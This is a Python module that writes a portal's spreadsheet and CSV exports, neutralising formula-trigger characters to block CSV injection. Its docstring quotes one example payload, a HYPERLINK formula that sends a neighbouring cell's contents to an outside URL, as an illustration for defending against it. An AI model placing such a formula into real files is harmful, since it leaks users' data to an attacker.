"""The one writer of every spreadsheet and CSV file the portal produces.

User text (an entry's title, an agency's name, a criterion, a comment) is stored as text,
never as something a spreadsheet program evaluates. Following OWASP's "CSV Injection"
guidance, a text value whose first character is `=`, `+`, `-`, `@`, a tab (0x09) or a
carriage return (0x0D) is prefixed with a single quote `'`, so Excel, LibreOffice and Google
Sheets show it instead of running it (`=HYPERLINK("http://…?leak="&A2,"คลิก")` would
otherwise send the neighbouring cells to whoever wrote it). In a workbook the cell is also
typed as a string (openpyxl's data_type "s"), so it can never be a formula.

Numbers stay numbers: an int, float or Decimal (a negative one included) is written as a
number; only text is neutralised. The same rule applies to open-data CSV, whose JSON twin
carries the values unaltered.

Used by awards/spreadsheets.py (score sheets, rankings, a cycle's results) and
cases/opendata.py (CSV). A new export writes through SafeSheet or SafeDictWriter, nothing else.
"""

import csv
import datetime
import decimal
import io

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"

# The first characters that make a spreadsheet program read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_TYPES = (int, float, decimal.Decimal)
PLAIN_TYPES = (datetime.date, datetime.datetime, datetime.time, datetime.timedelta)


def neutralise(text: str) -> str:
    """A text value as it is safe to put in a cell: a leading formula trigger is quoted."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def cell_value(value):
    """What goes into a cell: None, booleans, numbers and dates as they are; anything else
    (str, lazy translations, model instances) as neutralised text."""
    if value is None or isinstance(value, (bool, *NUMBER_TYPES, *PLAIN_TYPES)):
        return value
    return neutralise(str(value))


def workbook_text(value):
    """cell_value() for openpyxl, which refuses the control characters XML cannot hold
    (a title pasted with one would otherwise break the whole export)."""
    value = cell_value(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


class SafeSheet:
    """Rows appended to an openpyxl worksheet through the writer. Counts its rows itself
    (openpyxl's max_row walks every cell: quadratic on a large sheet)."""

    def __init__(self, worksheet, rows: int = 0):
        self.worksheet = worksheet
        self.rows = rows

    def append(self, values) -> list:
        """Write one row after the last; returns its cells (for styling)."""
        self.rows += 1
        cells = []
        for column, raw in enumerate(values, start=1):
            value = workbook_text(raw)
            cell = self.worksheet.cell(row=self.rows, column=column)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"  # text, whatever it looks like: never a formula
            cells.append(cell)
        return cells

    def cell(self, row: int, column: int):
        return self.worksheet.cell(row=row, column=column)


def new_sheet(workbook: Workbook, title: str | None = None) -> SafeSheet:
    """A fresh worksheet of the workbook, wrapped (its title is not a cell: no formula)."""
    return SafeSheet(workbook.create_sheet(title))


def workbook_bytes(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


class SafeDictWriter(csv.DictWriter):
    """csv.DictWriter whose text values (and header) go through cell_value(); every field
    with a comma, quote or line break is quoted, so it stays one field."""

    def __init__(self, f, fieldnames, **kwargs):
        kwargs.setdefault("quoting", csv.QUOTE_MINIMAL)
        super().__init__(f, fieldnames, **kwargs)

    def writeheader(self):
        return self.writer.writerow([cell_value(name) for name in self.fieldnames])

    def writerow(self, rowdict):
        return super().writerow({key: cell_value(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts):
        for row in rowdicts:
            self.writerow(row)
